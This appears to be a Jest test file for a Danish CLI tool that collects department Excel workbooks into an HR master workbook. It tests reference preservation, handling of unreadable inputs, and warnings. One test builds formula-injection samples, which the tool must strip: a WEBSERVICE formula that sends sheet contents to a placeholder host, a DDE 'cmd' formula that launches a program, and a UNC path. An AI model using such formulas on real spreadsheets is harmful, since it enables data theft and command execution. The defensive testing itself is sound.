/**
 * `jobstatus saml` without harm (issue 18): values only, the analyst's references to every template
 * sheet intact, no stalls, and the warnings across deliveries. Every workbook is built here.
 */
import { promises as fs } from "node:fs";
import * as path from "node:path";
import type ExcelJS from "exceljs";
import { loadExampleData, type ExampleData } from "../../src/cli/example";
import { DEFAULT_UNIT_CODES } from "../../src/core/units";
import { COLLECT } from "../../src/messages/da";
import { readXlsx, runCli, tempDir } from "../support/cli";
import { analystWorkbook, departmentWorkbook } from "../addin/collect-fixtures";

interface Row {
  code: string;
  state: string;
  action: string | null;
  errors: number;
  mail: string | null;
  removed: { outside: number; plain: number; cells: { cell: string; kind: string }[]; message: string } | null;
  plausibility: { kind: string; message: string }[];
  unreadable: { file: string; reason: string; message: string } | null;
}
interface SamlJson {
  written: string | null;
  overview: Row[];
  problems: { kind: string; message: string }[];
}

let dir: string;
let data: ExampleData;

beforeAll(async () => {
  dir = await tempDir();
  data = await loadExampleData();
});
afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

async function write(wb: ExcelJS.Workbook, name: string): Promise<string> {
  const f = path.join(dir, name);
  await wb.xlsx.writeFile(f);
  return f;
}

const departmentFile = async (code: string, name = `${code}-2025.xlsx`, scale = 1) => write(await departmentWorkbook(code, data, scale), name);

/** Every formula of a workbook, as "Sheet!A1: formula". */
function formulasOf(wb: ExcelJS.Workbook): string[] {
  const out: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => {
    if (c.formula) out.push(`${ws.name}!${c.address}: ${c.formula}`);
  })));
  return out;
}

describe("jobstatus saml without harm", () => {
  it("values only: a file with WEBSERVICE, DDE, UNC, external and cross-sheet formulas arrives as its cached values, and the overview names what was removed", async () => {
    const hoved = await write(await analystWorkbook(data), "HOVED-v.xlsx");
    const wb = await departmentWorkbook("BUF", data);
    const ws = wb.getWorksheet("BUF") as ExcelJS.Worksheet;
    const loen = data.departments.BUF?.status.loentilskud ?? 0;
    wb.addWorksheet("Ark1").getCell("N2").value = loen;
    ws.getCell("B5").value = { formula: "Ark1!N2", result: loen } as ExcelJS.CellFormulaValue;
    ws.getCell("E1").value = { formula: 'WEBSERVICE("http://example.invalid/?d="&ENCODEURL(INDIRECT("Noter!A1")))', result: "ok" } as ExcelJS.CellFormulaValue;
    ws.getCell("E2").value = { formula: "cmd|' /C calc'!A0", result: 0 } as ExcelJS.CellFormulaValue;
    ws.getCell("E3").value = { formula: "'\\\\host\\share\\[x.xlsx]Ark1'!A1", result: 7 } as ExcelJS.CellFormulaValue;
    ws.getCell("E4").value = "=1+1";
    const file = await write(wb, "BUF-2025.xlsx");
    const out = path.join(dir, "v-out.xlsx");
    const run = await runCli("saml", hoved, file, "-o", out, "--json");
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const buf = (JSON.parse(run.stdout) as SamlJson).overview.find((r) => r.code === "BUF");
    expect(buf?.removed?.cells).toEqual([
      { cell: "E1", kind: "webservice" },
      { cell: "E2", kind: "dde" },
      { cell: "E3", kind: "unc" },
      { cell: "B5", kind: "other-sheet" },
    ]);
    expect(buf?.removed?.message).toContain("E2 (DDE-kæde til et andet program)");
    const text = await runCli("saml", hoved, file, "-o", path.join(dir, "v-out2.xlsx"));
    expect(text.stdout).toContain("BUF: Fjernet, fordi de brugte noget uden for arket: 4 formler");
    const got = await readXlsx(out);
    expect(formulasOf(got)).toEqual(formulasOf(await readXlsx(hoved)));
    const b = got.getWorksheet("BUF") as ExcelJS.Worksheet;
    expect(b.getCell("B5").value).toBe(loen);
    expect(b.getCell("E1").value).toBe("ok");
    expect(b.getCell("E3").value).toBe(7);
    expect(b.getCell("E4").value).toBe("=1+1");
    expect(got.getWorksheet("Ark1")).toBeUndefined();
  });

  it("an analyst workbook with formulas, names, data validation, notes and conditional formats pointing at every template sheet keeps them all, pointing at the filled sheets", async () => {
    const wb = await analystWorkbook(data);
    const a = wb.addWorksheet("Analyse");
    DEFAULT_UNIT_CODES.forEach((code, i) => {
      a.getCell(i + 1, 1).value = code;
      a.getCell(i + 1, 2).value = { formula: `'${code}'!B5*2` } as ExcelJS.CellFormulaValue;
      a.getCell(i + 1, 2).note = `Henter ${code}`;
      a.getCell(i + 1, 3).dataValidation = { type: "decimal", operator: "lessThanOrEqual", formulae: [`'${code}'!$B$5`], allowBlank: true };
      wb.definedNames.add(`'${code}'!$B$5`, `Loen_${i}`);
    });
    a.addConditionalFormatting({ ref: "B1:B7", rules: [{ type: "expression", priority: 1, formulae: ["'BUF'!$B$5>0"], style: { fill: { type: "pattern", pattern: "solid", bgColor: { argb: "FFFFC7CE" } } } }] });
    const hoved = await write(wb, "HOVED-ref.xlsx");
    const files = await Promise.all(DEFAULT_UNIT_CODES.map((c) => departmentFile(c)));
    const out = path.join(dir, "ref-out.xlsx");
    const run = await runCli("saml", hoved, ...files, "-o", out, "--json");
    expect(run.code).toBe(0);
    expect((JSON.parse(run.stdout) as SamlJson).overview.map((r) => r.action)).toEqual(DEFAULT_UNIT_CODES.map(() => "fill-template"));
    const before = await readXlsx(hoved);
    const after = await readXlsx(out);
    expect(after.worksheets.map((w) => w.name)).toEqual(before.worksheets.map((w) => w.name));
    expect(formulasOf(after)).toEqual(formulasOf(before));
    expect(after.definedNames.model).toEqual(before.definedNames.model);
    const an = after.getWorksheet("Analyse") as ExcelJS.Worksheet;
    const bn = before.getWorksheet("Analyse") as ExcelJS.Worksheet;
    for (let r = 1; r <= 7; r++) {
      expect(an.getCell(r, 2).note).toEqual(bn.getCell(r, 2).note);
      expect(an.getCell(r, 3).dataValidation).toEqual(bn.getCell(r, 3).dataValidation);
    }
    expect((an as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings).toEqual((bn as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings);
    for (const code of DEFAULT_UNIT_CODES) expect((after.getWorksheet(code) as ExcelJS.Worksheet).getCell("B5").value).toBe(data.departments[code]?.status.loentilskud);
    // A note of HR's on a still-blank template sheet does not make it HR's (the pane's rule too,
    // core touchesOf): filling in place keeps the note, so the sheet is filled without asking.
    // (On a label cell: exceljs, the CLI's reader, does not read a note on a cell without a value.)
    const noted = await analystWorkbook(data);
    (noted.getWorksheet("KFF") as ExcelJS.Worksheet).getCell("A5").note = "Afventer KFF";
    const h2 = await write(noted, "HOVED-note.xlsx");
    const ask = await runCli("saml", h2, files[2] as string, "-o", path.join(dir, "note-out.xlsx"), "--json");
    expect(ask.code).toBe(0);
    expect((JSON.parse(ask.stdout) as SamlJson).overview.find((r) => r.code === "KFF")?.action).toBe("fill-template");
    const r2 = await readXlsx(path.join(dir, "note-out.xlsx"));
    expect((r2.getWorksheet("KFF") as ExcelJS.Worksheet).getCell("A5").note).toBe("Afventer KFF");
    expect((r2.getWorksheet("KFF") as ExcelJS.Worksheet).getCell("B5").value).toBe(data.departments.KFF?.status.loentilskud);
  });

  it("no stalls: HOVED among the inputs, the same file twice, a shared workbook with one sheet filled, and unreadable files; the rest are collected", async () => {
    const hoved = await write(await analystWorkbook(data), "HOVED.xlsx");
    const bif = await departmentFile("BIF");
    // BUF returns the shared workbook (the analyst's own) with only its own sheet filled in.
    const shared = await analystWorkbook(data);
    const sharedBuf = shared.getWorksheet("BUF") as ExcelJS.Worksheet;
    (await departmentWorkbook("BUF", data)).getWorksheet("BUF")?.eachRow((row, n) => row.eachCell((c, col) => {
      if (typeof c.value === "number") sharedBuf.getCell(n, col).value = c.value;
    }));
    const sharedFile = await write(shared, "Fælles-BUF.xlsx");
    const lock = path.join(dir, "~$KFF-2025.xlsx");
    await fs.writeFile(lock, Buffer.from([1, 2, 3]));
    const text = path.join(dir, "SOF-2025.xlsx");
    await fs.writeFile(text, "ikke en projektmappe");
    const cfb = Buffer.alloc(2048);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(cfb);
    Buffer.from("EncryptionInfo", "utf16le").copy(cfb, 600);
    const password = path.join(dir, "TMF-2025.xlsx");
    await fs.writeFile(password, cfb);
    const out = path.join(dir, "stall-out.xlsx");
    const run = await runCli("saml", hoved, hoved, bif, bif, sharedFile, lock, text, password, "-o", out, "--json");
    expect(run.stderr).toBe("");
    // Written, with the unreadable files as rows (exit 1 tells that something needs a look).
    expect(run.code).toBe(1);
    const json = JSON.parse(run.stdout) as SamlJson;
    expect(json.written).toBe(out);
    const by = new Map(json.overview.map((r) => [r.code, r]));
    expect([by.get("BIF")?.action, by.get("BUF")?.action]).toEqual(["fill-template", "fill-template"]);
    expect(by.get("SOF")).toMatchObject({ state: "unreadable", unreadable: { reason: "not-workbook" } });
    expect(by.get("TMF")).toMatchObject({ state: "unreadable", unreadable: { reason: "password" } });
    expect(by.get("TMF")?.unreadable?.message).toContain("adgangskode");
    expect(by.get("KFF")?.state).toBe("missing");
    expect(json.problems.map((p) => p.kind)).toEqual(["main-skipped", "named-twice", "blank-template", "unreadable"]);
    expect(json.overview.filter((r) => r.state === "duplicate")).toEqual([]);
  });

  it("a missing file and a folder named like a workbook are rows in the overview; the other files are still collected", async () => {
    const hoved = await write(await analystWorkbook(data), "HOVED-nf.xlsx");
    const buf = await departmentFile("BUF", "BUF-nf.xlsx");
    const folder = path.join(dir, "ØKF-mappe.xlsx");
    await fs.mkdir(folder);
    const missing = path.join(dir, "KFF-findes-ikke.xlsx");
    const out = path.join(dir, "nf-out.xlsx");
    const run = await runCli("saml", hoved, buf, folder, missing, "-o", out, "--json");
    expect(run.stderr).toBe("");
    expect(run.code).toBe(1);
    const json = JSON.parse(run.stdout) as SamlJson;
    expect(json.written).toBe(out);
    const by = new Map(json.overview.map((r) => [r.code, r]));
    expect(by.get("BUF")?.action).toBe("fill-template");
    expect(by.get("ØKF")).toMatchObject({ state: "unreadable", unreadable: { reason: "directory" } });
    expect(by.get("ØKF")?.unreadable?.message).toContain("er en mappe");
    expect(by.get("KFF")).toMatchObject({ state: "unreadable", unreadable: { reason: "not-found" } });
    expect(by.get("KFF")?.unreadable?.message).toContain("findes ikke");
  });

  it("a copy of HR's workbook among the inputs does not block a corrected file, and a real duplicate is never »all the same«", async () => {
    const first = path.join(dir, "kopi-first.xlsx");
    expect((await runCli("saml", await write(await analystWorkbook(data), "HOVED-k.xlsx"), await departmentFile("BUF", "BUF-k.xlsx"), await departmentFile("SOF", "SOF-k.xlsx"), "-o", first)).code).toBe(0);
    const copy = path.join(dir, "HOVED-kopi.xlsx");
    await fs.copyFile(first, copy);
    const fixed = async (name: string, add: number): Promise<string> => {
      const wb = await departmentWorkbook("BUF", data);
      const b5 = (wb.getWorksheet("BUF") as ExcelJS.Worksheet).getCell("B5");
      b5.value = Number(b5.value) + add;
      return write(wb, name);
    };
    const corrected = await fixed("BUF-rettet.xlsx", 1);
    const run = await runCli("saml", first, copy, corrected, "-o", path.join(dir, "k-out.xlsx"), "--erstat", "--json");
    const json = JSON.parse(run.stdout) as SamlJson;
    expect(json.problems.map((p) => p.kind)).toEqual(["blank-template"]);
    expect(json.overview.find((r) => r.code === "BUF")?.action).toBe("replace");
    expect(run.code).toBe(0);
    // Two different corrections for BUF: a duplicate, and the closing line does not say all is the same.
    const other = await fixed("BUF-rettet2.xlsx", 2);
    const dup = await runCli("saml", first, copy, corrected, other, "-o", path.join(dir, "k-out2.xlsx"));
    expect(dup.stdout).not.toContain(COLLECT.allUnchanged);
    expect(dup.code).toBe(1);
  });

  it("the wrong forvaltning warns: KFF's correction typed into BUF's template as KFF-2025-rettet.xlsx names KFF, and the change of more than half shows both figures", async () => {
    const hoved = await write(await analystWorkbook(data), "HOVED-w.xlsx");
    const first = path.join(dir, "w-first.xlsx");
    expect((await runCli("saml", hoved, await departmentFile("BUF"), "-o", first)).code).toBe(0);
    const wrong = await departmentWorkbook("BUF", data);
    const ws = wrong.getWorksheet("BUF") as ExcelJS.Worksheet;
    const kff = data.departments.KFF?.status;
    ws.getCell("B5").value = kff?.loentilskud ?? 0;
    ws.getCell("B6").value = kff?.virksomhedspraktik ?? 0;
    ws.getCell("B7").value = kff?.smaajob ?? 0;
    const file = await write(wrong, "KFF-2025-rettet.xlsx");
    const run = await runCli("saml", first, file, "-o", path.join(dir, "w-out.xlsx"), "--erstat", "--json");
    const buf = (JSON.parse(run.stdout) as SamlJson).overview.find((r) => r.code === "BUF");
    expect(buf?.plausibility.map((p) => p.kind)).toEqual(["names-other", "big-change"]);
    expect(buf?.plausibility[0]?.message).toContain("filnavnet »");
    expect(buf?.plausibility[0]?.message).toContain("nævner KFF, men arket udfylder BUF");
    expect(buf?.plausibility[1]?.message).toMatch(/samlet status for BUF ændres fra [\d.,]+ til [\d.,]+/);
    // The warnings change the outcome: counted on the row (never plain »Gyldig«), and named after the table.
    expect((buf as Row & { warnings: number }).warnings).toBe(2);
    const text = await runCli("saml", first, file, "-o", path.join(dir, "w-out2.xlsx"), "--erstat");
    expect(text.stdout).toContain("Tjek advarslerne for BUF");
    expect(text.stdout).toMatch(/BUF\s+Afleveret.*2 advarsler/);
  });

  it("HR's workbook for the wrong year is HR's problem, named once, and never in a department's mail", async () => {
    const blank = path.join(dir, "hoved-2024.xlsx");
    expect((await runCli("skabelon", "--aar", "2024", "-o", blank)).code).toBe(0);
    const files = await Promise.all(["BIF", "BUF", "KFF"].map((c) => departmentFile(c, `${c}-y.xlsx`)));
    const run = await runCli("saml", blank, ...files, "-o", path.join(dir, "y-out.xlsx"), "--json");
    const json = JSON.parse(run.stdout) as SamlJson;
    const year = json.problems.find((p) => p.kind === "workbook-year");
    expect(year?.message).toContain("Din projektmappe er for 2024, men 3 af 3 filer er for 2025");
    for (const r of json.overview) expect(r.mail ?? "").not.toMatch(/2024|årstal|året/i);
  });
});
